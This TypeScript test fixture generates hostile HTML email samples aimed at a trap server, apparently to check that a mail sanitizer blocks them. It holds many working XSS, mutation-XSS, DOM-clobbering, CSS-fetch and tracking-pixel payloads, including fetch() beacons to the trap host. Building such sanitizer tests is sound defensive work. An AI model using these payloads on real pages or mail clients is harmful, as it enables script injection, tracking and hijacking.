/** What a message tries, and the page that tries it; `trap` is the address of a server that nothing may reach. */
export interface HostileMail {
  name: string;
  html: string;
}

type Attempt = (trap: string) => string;

/** Says so wherever scripts run: to the server, to the page around it, in the console, and by leading away. */
const script = (trap: string): string =>
  `console.error('a script ran');try{parent.document.title='taken'}catch(e){};try{top.location='${trap}/taken'}catch(e){};new Image().src='${trap}/script';fetch('${trap}/fetched')`;

const inAttribute = (code: string): string => code.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const asEntities = (text: string): string => Array.from(text, (sign) => `&#${sign.codePointAt(0)};`).join('');
const inBase64 = (text: string): string => Buffer.from(text).toString('base64');
const handler = (trap: string): string => inAttribute(script(trap));
const image = (trap: string): string => `<img src=x onerror="${handler(trap)}">`;

/** Every way that we know of to run, to fetch, to lead away or to send something from a page. */
const attempts: Readonly<Record<string, Attempt>> = {
  script: (trap) => `<script>${script(trap)}</script><script src="${trap}/a.js"></script>`,
  handler: (trap) =>
    ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbeforetoggle', 'onscrollend']
      .map((on) => `<div tabindex=0 autofocus ${on}="${handler(trap)}">${on}</div>`)
      .join('') + image(trap),
  'javascript address': (trap) =>
    `<a href="javascript:${handler(trap)}">a</a><a href="java\tscript:${handler(trap)}">b</a><a href="&#1;javascript:${handler(trap)}">c</a><iframe src="javascript:${handler(trap)}"></iframe>`,
  'data address': (trap) =>
    `<iframe src="data:text/html;base64,${inBase64(`<script>${script(trap)}</script>`)}"></iframe><a href="data:text/html,<script>${handler(trap)}</script>">d</a><img src="data:image/svg+xml;base64,${inBase64(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${trap}/svg"/></svg>`)}">`,
  svg: (trap) =>
    `<svg onload="${handler(trap)}"><script>${script(trap)}</script><image href="${trap}/i"/><use href="${trap}/u#x"/><animate attributeName=href values="javascript:${handler(trap)}"/><a href="javascript:${handler(trap)}"><text>x</text></a><foreignObject>${image(trap)}</foreignObject><style>*{background:url(${trap}/s)}</style></svg>`,
  mathml: (trap) =>
    `<math><mtext><table><mglyph><style><!--</style>${image(trap)}--></style></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:${handler(trap)}">x</maction></math>`,
  'mutation by style': (trap) =>
    `<math><mtext><table><mglyph><style><math>${image(trap)}</style></math></mglyph></table></mtext></math>`,
  'mutation by noscript': (trap) =>
    `<noscript><p title="</noscript>${inAttribute(image(trap)).replaceAll('&quot;', "'")}"></p></noscript>`,
  'mutation by form': (trap) => `<form><math><mtext></form><form><mglyph><style></math>${image(trap)}</style></mglyph></form>`,
  'mutation by select': (trap) =>
    `<svg></p><style><a id="</style>${inAttribute(image(trap))}"></a></style></svg><select><template>${image(trap)}</template></select>`,
  'mutation by comment': (trap) =>
    `<!--><img src="${trap}/c">--><!--!> ${image(trap)} --!>${image(trap)}<![CDATA[${image(trap)}]]>`,
  'mutation by title': (trap) =>
    `<title><a title="</title>${inAttribute(image(trap))}"></a></title><textarea></textarea>${image(trap)}<xmp></xmp>${image(trap)}`,
  'nested deep': (trap) => `${'<div>'.repeat(600)}${image(trap)}<svg>${'<g>'.repeat(300)}<script>${script(trap)}</script>`,
  'style import': (trap) =>
    `<style>@import url(${trap}/import.css);@import '${trap}/import2.css';@font-face{font-family:x;src:url(${trap}/font)}*{font-family:x;background:url(${trap}/bg);cursor:url(${trap}/cur),auto}</style><p>text</p>`,
  'style attribute': (trap) =>
    `<p style="background:url(${trap}/1);background-image:image-set('${trap}/2' 1x);list-style:url('${trap}/3');content:url(${trap}/4)">a</p><p style="background:u\\72l(${trap}/5);back\\67round:url(${trap}/6);width:expression(${handler(trap)});behavior:url(${trap}/7);-moz-binding:url(${trap}/8)">b</p><p style="border-image-source:/**/url(${trap}/9);mask:url(${trap}/10);filter:url(${trap}/11#x);shape-outside:url(${trap}/12);src:src('${trap}/13')">c</p>`,
  'style sheet': (trap) =>
    `<link rel=stylesheet href="${trap}/link.css"><link rel=preload as=image href="${trap}/preload"><link rel=dns-prefetch href="${trap}"><link rel=preconnect href="${trap}"><link rel=prefetch href="${trap}/prefetch"><link rel=modulepreload href="${trap}/m.js"><link rel=icon href="${trap}/icon"><link rel=prerender href="${trap}/prerender">`,
  'meta refresh': (trap) =>
    `<meta http-equiv=refresh content="0;url=${trap}/refresh"><meta http-equiv="set-cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv=refresh content="0;url=data:text/html,<script>${handler(trap)}</script>">`,
  base: (trap) =>
    `<base href="${trap}/base/" target="_top"><img src="relative.png"><a href="relative">x</a><img srcset="r.png 1x">`,
  srcset: (trap) =>
    `<img srcset="${trap}/1x 1x, ${trap}/2x 2x" sizes=100vw><picture><source srcset="${trap}/s"><img src="${trap}/p"></picture><img src="//${new URL(trap).host}/protocol"><img lowsrc="${trap}/low" dynsrc="${trap}/dyn" longdesc="${trap}/long">`,
  media: (trap) =>
    `<video src="${trap}/v" poster="${trap}/poster" autoplay onerror="${handler(trap)}"></video><audio src="${trap}/a" autoplay></audio><track src="${trap}/t"><embed src="${trap}/e"><object data="${trap}/o"></object><applet code="${trap}/ap"></applet>`,
  'old attributes': (trap) =>
    `<body background="${trap}/body" onload="${handler(trap)}"><table background="${trap}/table"><td background="${trap}/td">x</table><input type=image src="${trap}/input"><isindex action="${trap}/i"><bgsound src="${trap}/bg"><frameset><frame src="${trap}/f"></frameset>`,
  form: (trap) =>
    `<form id=f action="${trap}/form" method=post target=_top><input name=a autofocus onfocus="${handler(trap)}"><button formaction="javascript:${handler(trap)}">Send</button></form><button form=f formaction="${trap}/b">x</button><input type=submit form=f><keygen autofocus>`,
  frame: (trap) =>
    `<iframe srcdoc="${inAttribute(`<script>${script(trap)}</script><img src=${trap}/srcdoc>`)}" sandbox="allow-scripts allow-same-origin"></iframe><iframe src="${trap}/frame"></iframe><portal src="${trap}/portal"></portal><fencedframe src="${trap}/fenced"></fencedframe>`,
  'entities and case': (trap) =>
    `<ScRiPt>${script(trap)}</sCrIpT><IMG SRC=x OnErRoR="${asEntities(script(trap))}"><a href="${asEntities(`javascript:${script(trap)}`)}">x</a><img/src=x/onerror="${handler(trap)}">`,
  'unicode tricks': (trap) =>
    `<\u017Fcript>${script(trap)}</\u017Fcript><img src=x on\u0000error="${handler(trap)}"><a href="\u2028javascript:${handler(trap)}">\u202Egpj.exe</a><img src=x one\uFEFFrror="${handler(trap)}">\uFFFE`,
  template: (trap) =>
    `<template>${image(trap)}</template><template shadowrootmode=open>${image(trap)}<style>:host{background:url(${trap}/host)}</style></template><slot onslotchange="${handler(trap)}">x</slot>`,
  'custom element': (trap) =>
    `<x-a is="x-b" onload="${handler(trap)}"><a ping="${trap}/ping" href="#" attributionsrc="${trap}/src">x</a></x-a>`,
  clobbering: (trap) =>
    `<form id=attributes><input name=removeChild><input name=innerHTML></form><img name=body><img id=createElement name=implementation>${image(trap)}<a id=defaultView href="javascript:${handler(trap)}">x</a>`,
  popover: (trap) =>
    `<button popovertarget=p>x</button><div id=p popover onbeforetoggle="${handler(trap)}">x</div><details open ontoggle="${handler(trap)}"><summary>x</summary>${image(trap)}</details><dialog open onclose="${handler(trap)}">x</dialog><marquee onstart="${handler(trap)}">x</marquee>`,
  counter: (trap) =>
    `<img src="${trap}/counter" width=1 height=1><img src="${trap.replace('http:', 'https:')}/counter" width=0><img src="${trap}/seen.gif" style="display:none">`,
};

/** The same attempt as others would write it: in a table, behind a broken tag, in a comment of Outlook, in capitals, cut in two. */
const wrappings: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<html><head><title>Hello</title></head><body>${html}</body></html>`,
  (html) => `<table><tr><td>${html}</td></tr></table>`,
  (html) => `<div title="<b>" class='a"b'><p ${html}`,
  (html) => `<!--[if mso]>${html}<![endif]--><!--[if !mso]><!-->${html}<!--<![endif]-->`,
  (html) => `<blockquote><pre>${html}</pre></blockquote><p>&lt;/p>`,
  (html) => `<a href="https://waybill.test/"><span>${html}</span></a>`,
  (html) => `<b><i><u>${html}</b></i></u><p>${html}`,
  (html) => `<svg><desc>${html}</desc></svg><math><annotation-xml encoding="text/html">${html}</annotation-xml></math>`,
  (html) => html.replaceAll('="', ' =\n"').replaceAll('<img', '<image'),
];

/** Each attempt in as many wrappings as are asked for, ten at most. */
export const hostileMail = (trap: string, wrapped: number): HostileMail[] =>
  wrappings
    .slice(0, wrapped)
    .flatMap((wrap, nth) =>
      Object.entries(attempts).map(([name, attempt]) => ({ name: `${name}, written in way ${nth}`, html: wrap(attempt(trap)) })),
    );
